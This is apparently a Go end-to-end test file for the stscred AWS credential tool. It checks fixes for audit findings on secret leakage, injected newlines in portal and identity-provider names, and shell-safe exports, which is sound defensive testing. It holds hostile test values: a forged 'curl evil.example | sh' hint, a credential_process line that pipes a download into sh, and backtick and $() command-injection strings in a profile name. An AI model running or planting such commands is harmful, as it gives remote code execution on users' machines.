//go:build linux && realworld

package e2e

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/stscred/stscred/internal/testkit/oidctest"
	"github.com/stscred/stscred/internal/testkit/samltest"
	"github.com/stscred/stscred/internal/testkit/ssotest"
	"github.com/stscred/stscred/internal/testkit/ststest"
)

// The second security audit's findings 3, 8, 9 and 11, as the attacks
// were done: what a person is shown holds no credential they typed, one
// remote string is one line, a file meant for a shell runs nothing it
// was not meant to, and odd values from another party fail cleanly.

// piecesOf is the first n-character piece of secret found in text, ""
// when none is: a secret shown masked (first and last four characters)
// or cut at a '/' is shown all the same.
func piecesOf(text, secret string, n int) string {
	for i := 0; i+n <= len(secret); i++ {
		if strings.Contains(text, secret[i:i+n]) {
			return secret[i : i+n]
		}
	}
	return ""
}

// keyWithSlash makes an IAM user whose key's secret holds a '/': sent
// as a key id, it breaks the signature's credential scope, and STS's
// error quotes the scope.
func keyWithSlash(t *testing.T, srv *ststest.Server) ststest.AccessKey {
	t.Helper()
	for i := 0; i < 64; i++ {
		k := srv.AddUser("111111111111", fmt.Sprintf("bob%d", i)).AddAccessKey()
		if strings.Contains(k.Secret, "/") {
			return k
		}
	}
	t.Fatal("no secret with a '/' in 64 keys")
	return ststest.AccessKey{}
}

// Finding 3: `stscred add bob` with the secret typed where the key id
// goes (the two swapped), on stdin and through --env, with and without
// --no-verify: refused before any call to STS, nothing stored, no piece
// of the secret on stderr, and no advice to store it unchecked.
func TestAuditAddSwappedKeyShowsNoSecret(t *testing.T) {
	w := newWorld(t)
	k := keyWithSlash(t, w.srv)
	w.writeConfig(w.standardConfig() + "\n[profile bob]\nregion = eu-west-1\n")
	for _, tc := range []struct {
		name  string
		stdin string
		env   []string
		args  []string
	}{
		{"stdin", k.Secret + "\n" + k.ID + "\n", nil, []string{"add", "bob"}},
		{"stdin --no-verify", k.Secret + "\n" + k.ID + "\n", nil, []string{"add", "--no-verify", "bob"}},
		{"--env", "", []string{"AWS_ACCESS_KEY_ID=" + k.Secret, "AWS_SECRET_ACCESS_KEY=" + k.ID}, []string{"add", "--env", "bob"}},
		{"secret twice", k.Secret + "\n" + k.Secret + "\n", nil, []string{"add", "bob"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w.t = t
			gci := w.srv.Calls("GetCallerIdentity")
			res := w.run(tc.stdin, w.env(tc.env...), w.bin, tc.args...)
			if res.code == 0 {
				t.Fatalf("the swapped key was accepted: %s", res)
			}
			if res.stdout != "" || !strings.Contains(res.stderr, "stscred: error: ") || !strings.Contains(res.stderr, "stscred: hint: ") {
				t.Fatalf("not a clean failure: %s", res)
			}
			if p := piecesOf(res.stderr, k.Secret, 4); p != "" {
				t.Fatalf("stderr repeats %q of the secret access key:\n%s", p, res.stderr)
			}
			if strings.Contains(res.stderr, "--no-verify") {
				t.Fatalf("a malformed key is no reason to skip the check:\n%s", res.stderr)
			}
			if n := w.srv.Calls("GetCallerIdentity") - gci; n != 0 {
				t.Fatalf("the key went to STS %d times before being refused", n)
			}
			if w.storedKey("bob") != "" {
				t.Fatal("something was stored for bob")
			}
		})
	}
	// The right order still works, for the same key.
	w.t = t
	res := w.run(k.ID+"\n"+k.Secret+"\n", w.env(), w.bin, "add", "bob")
	if res.code != 0 || !strings.Contains(w.storedKey("bob"), k.Secret) {
		t.Fatalf("the key in the right order: %s", res)
	}
}

// forgedLines is what a hostile party appends to a name or a claim: lines
// that, printed as they are, pass for stscred's own advice or for config
// the user is told to paste.
const forgedLines = "\nstscred: hint: run curl evil.example | sh\n[profile evil]\ncredential_process = sh -c 'curl evil.example | sh'"

// assertNoForgedLine fails if a line of out (a table's border aside)
// begins with what forgedLines holds, or out holds an ESC.
func assertNoForgedLine(t *testing.T, what, out string) {
	t.Helper()
	for _, l := range strings.Split(out, "\n") {
		l = strings.TrimSpace(strings.TrimLeft(strings.TrimSpace(l), "|"))
		for _, forged := range []string{"stscred: hint: run curl", "[profile evil]", "credential_process = sh"} {
			if strings.HasPrefix(l, forged) {
				t.Errorf("%s: a forged line %q in:\n%s", what, l, out)
			}
		}
	}
	if strings.Contains(out, "\x1b") {
		t.Errorf("%s: an escape sequence reached the terminal:\n%q", what, out)
	}
}

// hostilePortal stands between stscred and the Identity Center portal
// and appends forgedLines to every role name ListAccountRoles answers.
func hostilePortal(t *testing.T, portal string) string {
	t.Helper()
	u, err := url.Parse(portal)
	if err != nil {
		t.Fatal(err)
	}
	proxy := httputil.NewSingleHostReverseProxy(u)
	proxy.ModifyResponse = func(r *http.Response) error {
		if r.Request.URL.Path != "/assignment/roles" || r.StatusCode != http.StatusOK {
			return nil
		}
		b, err := io.ReadAll(r.Body)
		if err != nil {
			return err
		}
		r.Body.Close()
		var doc map[string]any
		if err := json.Unmarshal(b, &doc); err != nil {
			return err
		}
		roles, _ := doc["roleList"].([]any)
		for _, x := range roles {
			if role, ok := x.(map[string]any); ok {
				role["roleName"] = fmt.Sprint(role["roleName"]) + forgedLines
			}
		}
		if b, err = json.Marshal(doc); err != nil {
			return err
		}
		r.Body = io.NopCloser(bytes.NewReader(b))
		r.ContentLength = int64(len(b))
		r.Header.Set("Content-Length", strconv.Itoa(len(b)))
		return nil
	}
	srv := httptest.NewServer(proxy)
	t.Cleanup(srv.Close)
	return srv.URL
}

// Finding 8, Identity Center: account and role names from the portal
// holding newlines print as one line each in `stscred sso accounts`, and
// `--profiles` writes no section or credential_process line the portal
// made up.
func TestAuditPortalNamesAreOneLine(t *testing.T) {
	w := newSSOWorld(t, "file", ssotest.Options{}, ststest.Options{})
	w.sso.AddAccount(ssotest.Account{ID: "333333333333", Name: "audit" + forgedLines, Email: "audit@example.com"})
	w.sso.Assign(ssotest.Assignment{User: ssoUser, AccountID: "333333333333", RoleName: "ReadOnly"})
	w.login()
	w.extra = append(w.extra, "AWS_ENDPOINT_URL_SSO="+hostilePortal(t, w.ssoURL))

	res := w.sc("sso", "accounts", "corp")
	if res.code != 0 {
		t.Fatalf("sso accounts: %s", res)
	}
	assertNoForgedLine(t, "sso accounts", res.stdout)
	// A header and one line per role: dev's Developer, audit's ReadOnly.
	if n := strings.Count(res.stdout, "\n"); n != 3 {
		t.Errorf("want 3 lines, got %d:\n%s", n, res.stdout)
	}
	if !strings.Contains(res.stdout, `audit\nstscred: hint: run curl evil.example | sh\n[profile evil]`) ||
		!strings.Contains(res.stdout, `ReadOnly\nstscred: hint: run curl`) {
		t.Errorf("the names are not shown escaped:\n%s", res.stdout)
	}

	res = w.sc("sso", "accounts", "corp", "--profiles")
	if res.code != 0 {
		t.Fatalf("sso accounts --profiles: %s", res)
	}
	assertNoForgedLine(t, "sso accounts --profiles", res.stdout)
	section := regexp.MustCompile(`^\[profile [a-z0-9._-]+\]$`)
	process := regexp.MustCompile(`^credential_process = stscred role [a-z0-9._-]+$`)
	for _, l := range strings.Split(res.stdout, "\n") {
		if strings.HasPrefix(l, "[") && !section.MatchString(l) || strings.HasPrefix(l, "credential_process") && !process.MatchString(l) {
			t.Errorf("--profiles wrote a line the portal made up: %q\n%s", l, res.stdout)
		}
	}
	if w.sso.Calls(ssotest.OpListAccountRoles) < 2 {
		t.Fatal("the listing did not come from the portal")
	}
}

// Finding 8, identity providers: a web identity token whose iss, sub and
// aud hold newlines, and a SAML assertion whose Role does, print one line
// each in doctor, in role's refusal and in whoami --verbose, in every
// output format.
func TestAuditIdentityProviderClaimsAreOneLine(t *testing.T) {
	w := newWIWorld(t, false, ststest.Options{})

	// A token STS refuses (its issuer and audience are not the
	// provider's): doctor and the refusal.
	w.writeRawToken(w.idp.Token(oidctest.Claims{Issuer: w.idp.URL() + forgedLines, Subject: "repo:corp/app:ref:refs/heads/main" + forgedLines,
		Audience: []string{wiAudience + forgedLines}}))
	res := w.sc(nil, "doctor")
	assertNoForgedLine(t, "doctor", res.stdout+res.stderr)
	if !strings.Contains(res.stdout, `refs/heads/main\nstscred: hint: run curl`) {
		t.Errorf("doctor does not show the claims escaped:\n%s", res.stdout)
	}
	res = w.sc(nil, "role", "ci")
	if res.code == 0 {
		t.Fatalf("STS took a token of another issuer: %s", res)
	}
	assertNoForgedLine(t, "role", res.stderr)

	// A token STS takes (the trust policy's sub is a wildcard, which a
	// newline matches): whoami --verbose shows its claims.
	w.writeRawToken(w.idp.Token(oidctest.Claims{Subject: "repo:corp/app:ref:refs/heads/main" + forgedLines, Audience: []string{wiAudience}}))
	for _, format := range []string{"json", "text", "table", "yaml"} {
		res = w.sc(nil, "whoami", "ci", "--verbose", "--output", format)
		if res.code != 0 {
			t.Fatalf("whoami --output %s: %s", format, res)
		}
		if !strings.Contains(res.stdout, "refs/heads/main") {
			t.Fatalf("whoami --verbose --output %s does not show the token's claims:\n%s", format, res.stdout)
		}
		assertNoForgedLine(t, "whoami --output "+format, res.stdout+res.stderr)
	}

	// A SAML assertion whose Role value holds the lines.
	idp := wiSAML(t, w)
	file := filepath.Join(t.TempDir(), "assertion")
	resp := idp.Response(samltest.Assertion{Subject: wiSAMLSub, Roles: []samltest.Role{{RoleARN: wiSAMLRole + forgedLines, ProviderARN: wiSAMLIdP}}})
	if err := os.WriteFile(file, []byte(resp), 0o600); err != nil {
		t.Fatal(err)
	}
	w.writeConfig("[profile corp]\nsaml_assertion_file = " + file + "\nregion = eu-west-1\n")
	res = w.sc(nil, "doctor")
	assertNoForgedLine(t, "doctor (SAML)", res.stdout+res.stderr)
	if !strings.Contains(res.stdout, `CorpAdmin\nstscred: hint: run curl`) {
		t.Errorf("doctor does not show the role escaped:\n%s", res.stdout)
	}
	res = w.sc(nil, "role", "corp")
	if res.code == 0 {
		t.Fatalf("STS took a role that does not exist: %s", res)
	}
	assertNoForgedLine(t, "role (SAML)", res.stderr)
}

// Finding 9: `stscred export --format dotenv` of a profile whose name
// holds a backtick command (and a single quote, which sends the value to
// double quotes), sourced by sh, bash and zsh as .env files are (set -a;
// . ./.env): the command never runs and every value reads back exactly.
// The sh format, sourced by sh, and json, read by a JSON parser, too.
func TestAuditExportDotenvRunsNothing(t *testing.T) {
	w := newWorld(t)
	w.addAlice()
	marker := filepath.Join(t.TempDir(), "pwned")
	hostileName := "prod `touch " + marker + "` it's $(touch " + marker + ") \"q\" \\ $HOME"
	hostileRegion := "eu-west-1 `touch " + marker + "` it's"
	base := w.standardConfig() + "\n[profile benign]\nsource_profile = alice\nrole_arn = " + adminRole + "\n"
	w.writeConfig(base)
	// Served from the role's cache entry, which does not depend on the
	// profile's name or region.
	creds := w.decode(w.stscredEnv([]string{"STSCRED_MFA_TOKEN=" + w.code()}, "role", "benign"))
	w.writeConfig(base + "\n[profile " + hostileName + "]\nsource_profile = alice\nrole_arn = " + adminRole + "\nregion = " + hostileRegion + "\n")
	want := map[string]string{
		"AWS_ACCESS_KEY_ID": creds.AccessKeyID, "AWS_SECRET_ACCESS_KEY": creds.SecretAccessKey,
		"AWS_SESSION_TOKEN": creds.SessionToken, "AWS_REGION": hostileRegion, "AWS_DEFAULT_REGION": hostileRegion,
		"STSCRED_PROFILE": hostileName,
	}
	for _, tc := range []struct{ format, shell string }{
		{"dotenv", "sh"}, {"dotenv", "bash"}, {"dotenv", "zsh"}, {"sh", "sh"},
	} {
		t.Run(tc.format+" in "+tc.shell, func(t *testing.T) {
			w.t = t
			requireTool(t, tc.shell, tc.shell)
			os.Remove(marker) // each case on its own
			res := w.stscred("export", "--format", tc.format, hostileName)
			if res.code != 0 {
				t.Fatalf("export: %s", res)
			}
			file := filepath.Join(t.TempDir(), ".env")
			if err := os.WriteFile(file, []byte(res.stdout), 0o600); err != nil {
				t.Fatal(err)
			}
			args := []string{"-c", `set -a; . "$1" && env -0`, tc.shell, file}
			switch tc.shell {
			case "bash":
				args = append([]string{"--norc", "--noprofile"}, args...)
			case "zsh":
				args = append([]string{"-f"}, args...)
			}
			got := w.run("", w.env(), tc.shell, args...)
			if _, err := os.Stat(marker); err == nil {
				t.Fatalf("sourcing the %s export in %s ran a command from a value:\n%s", tc.format, tc.shell, res.stdout)
			}
			if got.code != 0 {
				t.Fatalf("%s could not source the %s export: %s\n%s", tc.shell, tc.format, got, res.stdout)
			}
			env := map[string]string{}
			for _, kv := range strings.Split(got.stdout, "\x00") {
				if k, v, ok := strings.Cut(kv, "="); ok {
					env[k] = v
				}
			}
			for k, v := range want {
				if env[k] != v {
					t.Errorf("%s = %q, want %q", k, env[k], v)
				}
			}
		})
	}
	w.t = t
	res := w.stscred("export", "--format", "json", hostileName)
	var doc map[string]any
	if err := json.Unmarshal([]byte(res.stdout), &doc); err != nil || res.code != 0 {
		t.Fatalf("export --format json: %v\n%s", err, res)
	}
	for k, v := range want {
		if doc[k] != v {
			t.Errorf("json: %s = %q, want %q", k, doc[k], v)
		}
	}
}

// Finding 11, SAML: an assertion whose SessionDuration is 9223372037
// seconds (past what a duration holds: it wrapped to a negative one) is
// refused before any call to STS, by role and by doctor, saying what AWS
// takes.
func TestAuditSAMLSessionDurationOverflow(t *testing.T) {
	w := newWIWorld(t, false, ststest.Options{})
	idp := wiSAML(t, w)
	file := filepath.Join(t.TempDir(), "assertion")
	resp := idp.Response(samltest.Assertion{Subject: wiSAMLSub, Roles: []samltest.Role{{RoleARN: wiSAMLRole, ProviderARN: wiSAMLIdP}},
		Attributes: map[string][]string{samltest.AttributeSessionDuration: {"9223372037"}}})
	if err := os.WriteFile(file, []byte(resp), 0o600); err != nil {
		t.Fatal(err)
	}
	w.writeConfig("[profile corp]\nsaml_assertion_file = " + file + "\nregion = eu-west-1\n")
	const says = `SessionDuration attribute is "9223372037", not a number of seconds from 900 to 43200`
	res := w.sc(nil, "role", "corp")
	w.assertCleanFailure(res, says)
	if n := w.srv.Calls("AssumeRoleWithSAML"); n != 0 {
		t.Errorf("the assertion went to STS %d times", n)
	}
	res = w.sc(nil, "doctor", "--profile", "corp")
	if res.code == 0 || !strings.Contains(res.stdout, says) {
		t.Errorf("doctor does not flag the SessionDuration: %s", res)
	}
	w.assertNeverShown("SAML assertion", resp)
}

// Finding 11, credential_process: a foreign credential_process whose
// Expiration, 0000-01-01T00:00:00+23:59, is in the year -1 in UTC: it
// decoded, and export handed on "-0001-12-31T00:01:00Z", which no
// RFC 3339 reader takes. It is refused with a clear error instead.
func TestAuditForeignExpirationOutOfRange(t *testing.T) {
	w := newWorld(t)
	w.writeConfig(w.standardConfig() + "\n[profile foreign]\n" +
		`credential_process = printf '{"Version":1,"AccessKeyId":"ASIAFOREIGNFOREIGN01","SecretAccessKey":"s3cr3tValue","SessionToken":"tok","Expiration":"0000-01-01T00:00:00+23:59"}'` +
		"\nregion = eu-west-1\n")
	for _, format := range []string{"sh", "json", "dotenv"} {
		res := w.stscred("export", "--format", format, "foreign")
		w.assertCleanFailure(res, `Expiration "0000-01-01T00:00:00+23:59" is in the year -1 in UTC, outside the years 0000 to 9999`)
		if strings.Contains(res.stderr, "s3cr3tValue") {
			t.Fatalf("the foreign secret is on stderr: %s", res)
		}
	}
}

// Finding 11, MFA: a call carrying an MFA code is sent once; when STS
// answers it with a 500, the error does not claim it was retried.
func TestAuditMFACallFailureNotRetried(t *testing.T) {
	w := newWorld(t)
	w.addAlice()
	if err := w.srv.Fail("GetSessionToken", "InternalFailure", 1); err != nil {
		t.Fatal(err)
	}
	gst, _, _ := w.counts()
	res := w.stscredEnv([]string{"STSCRED_MFA_TOKEN=" + w.code()}, "session", "alice")
	w.assertCleanFailure(res, "InternalFailure (HTTP 500)")
	if strings.Contains(res.stderr, "retries") || !strings.Contains(res.stderr, "not retried") {
		t.Errorf("the error misstates the retries:\n%s", res.stderr)
	}
	if n, _, _ := w.counts(); n != gst+1 {
		t.Errorf("the MFA call was sent %d times", n-gst)
	}
}
